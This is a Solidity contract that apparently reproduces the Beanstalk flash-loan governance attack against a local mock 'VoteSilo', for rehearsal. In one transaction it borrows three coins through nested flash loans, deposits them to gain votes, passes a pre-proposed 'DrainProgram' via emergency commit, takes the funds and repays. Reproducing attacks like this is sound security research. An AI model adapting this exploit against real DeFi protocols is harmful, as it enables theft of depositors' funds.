// SPDX-License-Identifier: MIT
pragma solidity ^0.8.28;

import {IERC3156FlashBorrower} from "@openzeppelin/contracts/interfaces/IERC3156FlashBorrower.sol";
import {IERC3156FlashLender} from "@openzeppelin/contracts/interfaces/IERC3156FlashLender.sol";
import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {IERC20Metadata} from "@openzeppelin/contracts/token/ERC20/extensions/IERC20Metadata.sol";
import {SafeERC20} from "@openzeppelin/contracts/token/ERC20/utils/SafeERC20.sol";
import {DrainProgram} from "./DrainProgram.sol";
import {VoteSilo} from "./VoteSilo.sol";

/// @title Beanstalk's attack: borrow, deposit, vote, commit, take everything and repay, in one transaction.
/// @notice For rehearsing attacks. It must have proposed its {DrainProgram} a day before.
contract SiloAttack is IERC3156FlashBorrower {
    using SafeERC20 for IERC20;
    using SafeERC20 for IERC20Metadata;

    bytes32 private constant _CONSENT = keccak256("ERC3156FlashBorrower.onFlashLoan");

    IERC3156FlashLender private immutable _LENDER;
    VoteSilo private immutable _SILO;

    /// @notice The program that sends everything here.
    DrainProgram public immutable PROGRAM;

    address[3] private _coins;
    uint256[3] private _amounts;
    uint256 private _proposal;

    /// @notice Prepares the attack.
    /// @param lender Who lends.
    /// @param silo Who is attacked.
    /// @param coins Three coins that are borrowed, and taken.
    constructor(IERC3156FlashLender lender, VoteSilo silo, address[3] memory coins) {
        _LENDER = lender;
        _SILO = silo;
        _coins = coins;
        PROGRAM = new DrainProgram(address(this), coins);
    }

    /// @notice Deposits what this holds of the first coin, to be allowed to propose, and proposes.
    function seed() external {
        IERC20Metadata coin = IERC20Metadata(_coins[0]);
        uint256 amount = coin.balanceOf(address(this));
        coin.forceApprove(address(_SILO), amount);
        _SILO.deposit(coin, amount);
        _proposal = _SILO.propose(PROGRAM);
    }

    /// @notice The attack.
    /// @param amounts What to borrow of each coin, in its smallest unit.
    function attack(uint256[3] calldata amounts) external {
        _amounts = amounts;
        _borrow(0);
    }

    /// @inheritdoc IERC3156FlashBorrower
    function onFlashLoan(
        address,
        address token,
        uint256 amount,
        uint256 fee,
        bytes calldata data
    ) external returns (bytes32) {
        IERC20(token).forceApprove(address(_LENDER), amount + fee);
        _borrow(abi.decode(data, (uint256)) + 1);
        return _CONSENT;
    }

    /// @dev One loan within the other; with the last one there, the vote.
    function _borrow(uint256 index) private {
        if (index == 3) return _takeAll();
        _LENDER.flashLoan(this, _coins[index], _amounts[index], abi.encode(index));
    }

    function _takeAll() private {
        for (uint256 i = 0; i < 3; ++i) {
            IERC20Metadata coin = IERC20Metadata(_coins[i]);
            coin.forceApprove(address(_SILO), _amounts[i]);
            _SILO.deposit(coin, _amounts[i]);
        }
        _SILO.vote(_proposal);
        _SILO.emergencyCommit(_proposal);
    }
}
